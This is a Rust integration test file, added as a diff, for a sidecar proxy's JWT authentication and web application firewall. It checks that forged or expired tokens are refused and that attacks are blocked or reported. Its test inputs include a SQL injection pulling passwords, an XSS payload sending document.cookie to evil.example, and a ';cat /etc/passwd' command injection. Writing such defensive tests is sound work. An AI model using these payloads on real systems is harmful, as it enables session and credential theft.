@@ -1,0 +1,253 @@
+//! JWT authentication and the WAF through a running sidecar: real mTLS callers, the exact bytes
+//! on the wire, and what the app behind the sidecar saw (nothing, or exactly what was allowed).
+
+#[path = "support/jwt.rs"]
+mod jwt;
+mod support;
+
+use jwt::{jwks, Signer};
+use serde_json::{json, Value};
+use support::*;
+
+const ISS: &str = "https://auth.example.com";
+
+fn now() -> u64 {
+    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs()
+}
+
+fn claims(sub: &str) -> Value {
+    json!({"iss": ISS, "sub": sub, "aud": "orders", "exp": now() + 600, "groups": ["staff"]})
+}
+
+/// A refusal written by the sidecar: its status, SPEC section 5's JSON body and `x-request-id`;
+/// the echo app's JSON (which names a method and a path) is not there.
+fn assert_refused(answer: &Answer, status: u16, error: &str, what: &str) {
+    assert_eq!(answer.status, status, "{what}: {answer:?}");
+    let body: Value = serde_json::from_str(&answer.body).unwrap_or_else(|e| panic!("{what}: {e}: {answer:?}"));
+    assert_eq!(body["error"], error, "{what}: {body}");
+    assert!(body.get("path").is_none() && body.get("method").is_none(), "{what}: the app answered: {body}");
+    let id = answer.header("x-request-id").unwrap_or_else(|| panic!("{what}: no x-request-id"));
+    assert_eq!(body["request_id"], id, "{what}");
+    assert_eq!(answer.header("content-type"), Some("application/json"), "{what}");
+}
+
+/// The value of one series in a Prometheus text exposition (0 when absent).
+fn sample(metrics: &str, series: &str) -> f64 {
+    metrics.lines().find_map(|l| l.strip_prefix(series)?.strip_prefix(' ')?.trim().parse().ok()).unwrap_or(0.0)
+}
+
+async fn jwt_sidecar(signer: &Signer, require: bool) -> PolicedSidecar {
+    let keys = tempfile::NamedTempFile::new().unwrap().into_temp_path().keep().unwrap();
+    std::fs::write(&keys, jwks(&[signer])).unwrap();
+    let spec = format!(
+        r#"  authentication:
+    requireJwt: {require}
+    jwt:
+      - issuer: {ISS}
+        audiences: [orders]
+        jwks: {{file: "{}"}}
+        forwardClaims: [{{claim: sub, header: x-user}}]
+  authorization:
+    default: ALLOW
+    rules:
+      - {{name: no-guests, action: DENY, to: {{paths: ["/staff*"]}}, when: [{{key: "request.auth.claims[groups]", values: [guest]}}]}}
+"#,
+        keys.display()
+    );
+    PolicedSidecar::start(&policy("api", &spec)).await
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn tokens_that_do_not_verify_never_reach_the_app() {
+    let signer = Signer::ec("ES256", "k1");
+    let side = jwt_sidecar(&signer, true).await;
+    let stranger = Signer::ec("ES256", "k1"); // same kid, another key: a forgery
+    let expired = signer.token(&json!({"iss": ISS, "sub": "a", "aud": "orders", "exp": now() - 3600}));
+    let cases: [(&str, String, &str); 5] = [
+        ("a forged signature", stranger.token(&claims("alice")), "invalid_token"),
+        ("an expired token", expired, "invalid_token"),
+        ("alg none", signer.token_with_header(&json!({"alg": "none"}), &claims("alice")), "invalid_token"),
+        ("garbage", "not.a.jwt".into(), "invalid_token"),
+        (
+            "another audience",
+            signer.token(&json!({"iss": ISS, "sub": "a", "aud": "billing", "exp": now() + 60})),
+            "invalid_token",
+        ),
+    ];
+    for (what, token, error) in &cases {
+        let answer = side.send("frontend", "GET", "/orders", &[("authorization", &format!("Bearer {token}"))]).await;
+        assert_refused(&answer, 401, "unauthenticated", what);
+        let challenge = answer.header("www-authenticate").unwrap_or_else(|| panic!("{what}: no challenge"));
+        assert!(challenge.starts_with("Bearer realm=\"palisade\""), "{what}: {challenge}");
+        assert!(challenge.contains(&format!("error=\"{error}\"")), "{what}: {challenge}");
+    }
+    // No token at all while the policy requires one: a challenge without an error code.
+    let answer = side.send("frontend", "GET", "/orders", &[]).await;
+    assert_refused(&answer, 401, "unauthenticated", "no token");
+    assert_eq!(answer.header("www-authenticate"), Some("Bearer realm=\"palisade\""));
+
+    let metrics = side.metrics().await;
+    assert!(sample(&metrics, r#"palisade_authn_failures_total{reason="missing"}"#) >= 1.0, "{metrics}");
+    let failures: f64 = metrics
+        .lines()
+        .filter(|l| l.starts_with("palisade_authn_failures_total{"))
+        .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
+        .sum();
+    assert_eq!(failures, 6.0, "{metrics}");
+    let events = side.events();
+    let unauthenticated: Vec<_> = events
+        .iter()
+        .filter(|e| e["message"].as_str().is_some_and(|m| m.starts_with("unauthenticated GET /orders")))
+        .collect();
+    assert_eq!(unauthenticated.len(), 6, "{events:?}");
+    // The event names why, never the token.
+    for e in &unauthenticated {
+        let text = e.to_string();
+        assert!(!cases.iter().any(|(_, token, _)| token.len() > 20 && text.contains(token.as_str())), "{text}");
+    }
+    side.shutdown();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_verified_token_reaches_the_app_as_claims_and_not_as_a_token() {
+    let signer = Signer::ec("ES256", "k1");
+    let side = jwt_sidecar(&signer, false).await;
+    let alice = signer.token(&claims("alice"));
+    let answer = side
+        .send("frontend", "GET", "/orders/1", &[("authorization", &format!("Bearer {alice}")), ("x-user", "mallory")])
+        .await;
+    assert_eq!(answer.status, 200, "{answer:?}");
+    let seen = answer.seen();
+    assert_eq!(seen.headers.get("x-user").map(Vec::as_slice), Some(&["alice".to_string()][..]), "{seen:?}");
+    assert_eq!(seen.header("authorization"), None, "the token is removed by default");
+
+    // Without a token (not required here) the caller's own x-user still never reaches the app.
+    let answer = side.send("frontend", "GET", "/orders/1", &[("x-user", "mallory")]).await;
+    assert_eq!(answer.status, 200);
+    assert_eq!(answer.seen().header("x-user"), None);
+
+    // A claim condition: tokens whose groups hold "guest" are kept out of /staff.
+    let outsider =
+        signer.token(&json!({"iss": ISS, "sub": "eve", "aud": "orders", "exp": now() + 600, "groups": ["guest"]}));
+    let answer = side.send("frontend", "GET", "/staff/1", &[("authorization", &format!("Bearer {outsider}"))]).await;
+    assert_refused(&answer, 403, "forbidden", "a token without the group");
+    let answer = side.send("frontend", "GET", "/staff/1", &[("authorization", &format!("Bearer {alice}"))]).await;
+    assert_eq!(answer.status, 200, "{answer:?}");
+    side.shutdown();
+}
+
+fn waf_policy(waf: &str) -> String {
+    policy("api", &format!("  authorization: {{default: ALLOW}}\n  inputValidation:\n    waf: {waf}\n"))
+}
+
+fn post(path: &str, content_type: &str, body: &str) -> String {
+    format!(
+        "POST {path} HTTP/1.1\r\nhost: orders.shop\r\nconnection: close\r\ncontent-type: {content_type}\r\ncontent-length: {}\r\n\r\n{body}",
+        body.len()
+    )
+}
+
+fn chunked(path: &str, content_type: &str, body: &str) -> String {
+    let mut request = format!(
+        "POST {path} HTTP/1.1\r\nhost: orders.shop\r\nconnection: close\r\ncontent-type: {content_type}\r\ntransfer-encoding: chunked\r\n\r\n"
+    );
+    for piece in body.as_bytes().chunks(7) {
+        request.push_str(&format!("{:x}\r\n{}\r\n", piece.len(), std::str::from_utf8(piece).unwrap()));
+    }
+    request.push_str("0\r\n\r\n");
+    request
+}
+
+const SQLI_QUERY: &str = "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--";
+const XSS_JSON: &str = r#"{"order":{"items":[{"note":"<script>fetch('//evil.example/'+document.cookie)</script>"}]}}"#;
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_waf_blocks_attacks_in_the_query_and_in_bodies_and_lets_users_through() {
+    let side = PolicedSidecar::start(&waf_policy(
+        "{mode: BLOCK, inspectBodyBytes: 4096, exclusions: [{paths: [\"/reports*\"], parameters: [sql], detectors: [sqli]}]}",
+    ))
+    .await;
+    let answer = side.send("frontend", "GET", SQLI_QUERY, &[]).await;
+    assert_refused(&answer, 403, "forbidden", "SQL injection in the query");
+    assert!(!answer.body.contains("sql"), "the 403 never names the detector: {}", answer.body);
+
+    let answer = side.exchange("frontend", &post("/orders", "application/json", XSS_JSON)).await;
+    assert_refused(&answer, 403, "forbidden", "XSS deep in a JSON body");
+    let answer = side.exchange("frontend", &chunked("/orders", "application/json", XSS_JSON)).await;
+    assert_refused(&answer, 403, "forbidden", "the same body, chunked");
+    let form = "name=bob&comment=%3Bcat%20%2Fetc%2Fpasswd";
+    let answer = side.exchange("frontend", &post("/orders", "application/x-www-form-urlencoded", form)).await;
+    assert_refused(&answer, 403, "forbidden", "command injection in a form");
+
+    // What users send gets through, body and all.
+    let benign = r#"{"name":"O'Brien","note":"Select the blue one; deliver after 5 <pm> & ring twice","qty":2}"#;
+    let answer = side.exchange("frontend", &post("/orders", "application/json", benign)).await;
+    assert_eq!(answer.status, 200, "{answer:?} {:?}", side.events().last());
+    assert_eq!(answer.seen().body_bytes, benign.len());
+    let answer = side.exchange("frontend", &chunked("/orders", "application/json", benign)).await;
+    assert_eq!(answer.status, 200, "{answer:?}");
+    assert_eq!(answer.seen().body_bytes, benign.len());
+    let answer =
+        side.send("frontend", "GET", "/search?q=O%27Reilly%20%22select%20all%22%20drop-down%20menu&page=2", &[]).await;
+    assert_eq!(answer.status, 200, "{answer:?}");
+
+    // An exclusion lifts one detector from one parameter on its paths, and nothing else.
+    let answer = side.send("frontend", "GET", "/reports/1?sql=1%27%20UNION%20SELECT%20a%20FROM%20b--", &[]).await;
+    assert_eq!(answer.status, 200, "excluded parameter: {answer:?}");
+    let answer = side.send("frontend", "GET", "/reports/1?other=1%27%20UNION%20SELECT%20a%20FROM%20b--", &[]).await;
+    assert_refused(&answer, 403, "forbidden", "another parameter on the excluded path");
+
+    // A body over the inspection limit is refused (the default), not passed unread.
+    let big = format!(r#"{{"pad":"{}"}}"#, "a".repeat(5000));
+    let answer = side.exchange("frontend", &post("/orders", "application/json", &big)).await;
+    assert_refused(&answer, 413, "payload_too_large", "a declared body over inspectBodyBytes");
+    let answer = side.exchange("frontend", &chunked("/orders", "application/json", &big)).await;
+    assert_refused(&answer, 413, "payload_too_large", "a chunked body that grows over inspectBodyBytes");
+
+    let metrics = side.metrics().await;
+    assert_eq!(sample(&metrics, r#"palisade_waf_findings_total{action="blocked",detector="sqli"}"#), 2.0, "{metrics}");
+    assert_eq!(sample(&metrics, r#"palisade_waf_findings_total{action="blocked",detector="xss"}"#), 2.0, "{metrics}");
+    // `;cat /etc/passwd` is both command injection and traversal: either detector may report it.
+    let shell = ["command_injection", "path_traversal"]
+        .map(|d| sample(&metrics, &format!(r#"palisade_waf_findings_total{{action="blocked",detector="{d}"}}"#)));
+    assert_eq!(shell.iter().sum::<f64>(), 1.0, "{metrics}");
+    let blocked: Vec<Value> = side
+        .events()
+        .into_iter()
+        .filter(|e| e["message"].as_str().is_some_and(|m| m.starts_with("blocked POST /orders: xss in json_value")))
+        .collect();
+    assert_eq!(blocked.len(), 2, "{:?}", side.events());
+    let text = blocked[0].to_string();
+    assert!(text.contains("script"), "the event carries the matched fragment: {text}");
+    assert!(!text.contains("evil.example"), "never the whole body: {text}");
+    side.shutdown();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn detect_mode_reports_and_forwards_and_pass_forwards_big_bodies_unread() {
+    let side = PolicedSidecar::start(&waf_policy("{mode: DETECT, inspectBodyBytes: 1024, bodyOverLimit: PASS}")).await;
+    let answer = side.send("frontend", "GET", SQLI_QUERY, &[]).await;
+    assert_eq!(answer.status, 200, "DETECT forwards: {answer:?}");
+    assert_eq!(answer.seen().path, "/search", "{answer:?}");
+    let answer = side.exchange("frontend", &post("/orders", "application/json", XSS_JSON)).await;
+    assert_eq!(answer.status, 200, "{answer:?}");
+    assert_eq!(answer.seen().body_bytes, XSS_JSON.len(), "the whole body reached the app");
+
+    let big = format!(r#"{{"pad":"{}","x":"<script>alert(1)</script>"}}"#, "a".repeat(2000));
+    let answer = side.exchange("frontend", &post("/orders", "application/json", &big)).await;
+    assert_eq!(answer.status, 200, "bodyOverLimit: PASS: {answer:?}");
+    assert_eq!(answer.seen().body_bytes, big.len());
+
+    let metrics = side.metrics().await;
+    assert_eq!(sample(&metrics, r#"palisade_waf_findings_total{action="detected",detector="sqli"}"#), 1.0, "{metrics}");
+    assert_eq!(sample(&metrics, r#"palisade_waf_findings_total{action="detected",detector="xss"}"#), 1.0, "{metrics}");
+    assert_eq!(sample(&metrics, "palisade_waf_uninspected_bodies_total"), 1.0, "{metrics}");
+    assert!(
+        side.events()
+            .iter()
+            .any(|e| e["message"].as_str().is_some_and(|m| m.starts_with("detected GET /search: sqli"))),
+        "{:?}",
+        side.events()
+    );
+    side.shutdown();
+}
